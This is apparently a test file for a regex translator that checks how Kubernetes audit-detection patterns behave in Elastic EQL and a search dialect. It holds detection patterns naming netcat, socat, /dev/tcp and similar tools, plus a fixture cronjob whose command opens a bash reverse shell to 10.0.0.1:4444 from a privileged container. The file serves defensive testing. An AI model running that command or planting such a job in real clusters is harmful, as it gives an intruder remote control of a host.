import { describe, expect, it } from 'vitest';
import { elastic, MESSAGE, search } from './helpers.js';

// The regexes of the motivating public query, as they arrive after EQL string unescaping.
const IMAGES =
  '(?i)(alpine|busybox|ubuntu|debian|kali|python|perl|ruby|php|ncat|netcat|nmap|masscan|curl|wget)';
const COMMANDS = '(?i)(bash -i|/dev/tcp|mkfifo|socat|base64 -d|chmod \\+x)';
const SENSITIVE: [string, boolean][] = [
  [IMAGES, true],
  [COMMANDS, true],
  ['privileged.*true', false],
  ['hostNetwork.*true', false],
  ['/var/run/docker\\.sock|/proc|/sys', false],
];

const EVENT = JSON.stringify({
  kind: 'Event',
  verb: 'create',
  objectRef: { resource: 'cronjobs', namespace: 'default' },
  requestObject: {
    spec: {
      jobTemplate: {
        spec: {
          template: {
            spec: {
              hostNetwork: true,
              containers: [
                {
                  image: 'Alpine:3.19',
                  command: ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; chmod +x /tmp/x'],
                  securityContext: { privileged: true },
                  volumeMounts: [{ mountPath: '/var/run/docker.sock' }],
                },
              ],
            },
          },
        },
      },
    },
  },
});

describe('reference query, elastic dialect', () => {
  it.each(SENSITIVE)('%j never matches an audit event message and says so', (pattern, ci) => {
    const re = elastic(pattern, ci, MESSAGE);
    expect(re.test(EVENT)).toBe(false);
    const codes = re.warnings.map((w) => w.code);
    expect(codes).toContain('EQL_REGEX_NEVER_MATCHES');
    expect(codes.includes('EQL_REGEX_PCRE_SYNTAX')).toBe(pattern.startsWith('(?i)'));
    expect(
      codes.every((c) => c === 'EQL_REGEX_NEVER_MATCHES' || c === 'EQL_REGEX_PCRE_SYNTAX'),
    ).toBe(true);
  });

  it('reads (?i)(alpine|busybox) as "?i" followed by a name', () => {
    const re = elastic('(?i)(alpine|busybox)', false);
    expect(['?ialpine', '?ibusybox'].map((v) => re.test(v))).toEqual([true, true]);
    expect(['alpine', 'Alpine', '?Ialpine', 'x?ialpine'].map((v) => re.test(v))).toEqual([
      false,
      false,
      false,
      false,
    ]);
    // with regex~ the literal "?i" folds too
    expect(elastic('(?i)(alpine|busybox)', true).test('?IALPINE')).toBe(true);
  });

  it('matches the whole plain value only', () => {
    const re = elastic('privileged.*true');
    expect(re.test('privileged: true')).toBe(true);
    expect(re.test('x privileged: true')).toBe(false);
    expect(elastic(COMMANDS, true).test('?Ichmod +x')).toBe(true);
    expect(elastic(COMMANDS, true).test('chmod +x')).toBe(false);
    expect(elastic('/var/run/docker\\.sock|/proc|/sys').test('/proc')).toBe(true);
    expect(elastic('/var/run/docker\\.sock|/proc|/sys').test('/proc/1')).toBe(false);
  });

  it('the suggested rewrites do match the event', () => {
    expect(elastic('.*(alpine|busybox|curl).*', true, MESSAGE).test(EVENT)).toBe(true);
    expect(elastic('.*privileged.*true.*', false, MESSAGE).test(EVENT)).toBe(true);
    expect(elastic('.*(/var/run/docker\\.sock|/proc|/sys).*', false, MESSAGE).warnings).toEqual([]);
  });
});

describe('reference query, search dialect', () => {
  it.each(SENSITIVE)('%j matches the audit event message', (pattern, ci) => {
    const re = search(pattern, ci);
    expect(re.test(EVENT)).toBe(true);
    expect(re.warnings).toEqual([]);
  });

  it('keeps the known false positive of privileged.*true', () => {
    const value = '{"privileged":false,"readOnly":true}';
    expect(search('privileged.*true').test(value)).toBe(true);
    expect(search('privileged.*true').locate(value)).toEqual({ start: 2, end: 35 });
  });

  it('finds the image case-insensitively', () => {
    const re = search(IMAGES, true);
    expect(re.locate('"image":"Alpine:3.19"')).toEqual({ start: 9, end: 15 });
    expect(search(IMAGES, false).test('"image":"Alpine:3.19"')).toBe(true); // (?i) alone suffices
    expect(re.test('"image":"nginx:1.27"')).toBe(false);
  });

  it('finds the commands', () => {
    const re = search(COMMANDS, true);
    expect(re.test('sh -c "CHMOD +x /tmp/a"')).toBe(true);
    expect(re.test('chmod x')).toBe(false);
  });
});
